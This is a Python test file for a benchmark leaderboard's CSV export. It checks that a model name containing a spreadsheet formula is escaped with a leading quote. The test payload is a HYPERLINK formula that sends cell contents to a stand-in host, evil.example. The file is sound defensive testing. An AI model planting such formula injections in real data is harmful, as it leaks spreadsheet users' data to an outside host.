"""A model name on the stepwise leaderboard comes from imported or researchers' runs: in the CSV
export a formula in it comes out as text (benchmark.csv_tables)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.judge.factories import make_judgment, make_stepwise_item, make_task, rubric

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'


def test_it_neutralises_a_formula_in_a_model_name_of_the_csv_export(client_for, researcher) -> None:
    idea = rubric("idea")
    keys = [d["key"] for d in idea.dimensions if d.get("kind", "score") == "score"]
    for model, score in ((PAYLOAD, 7), ("model-b", 5)):
        item = make_stepwise_item(make_task(f"iclr2025_{score}"), model, "idea")
        make_judgment(item, idea, "anthropic:claude-x", dict.fromkeys(keys, score))
    body = client_for(researcher).get(reverse("judge:stepwise_export", args=["idea", "csv"])).content.decode()
    models = {r["model"] for r in csv.DictReader(io.StringIO(body))}
    assert models == {"'" + PAYLOAD, "model-b"}
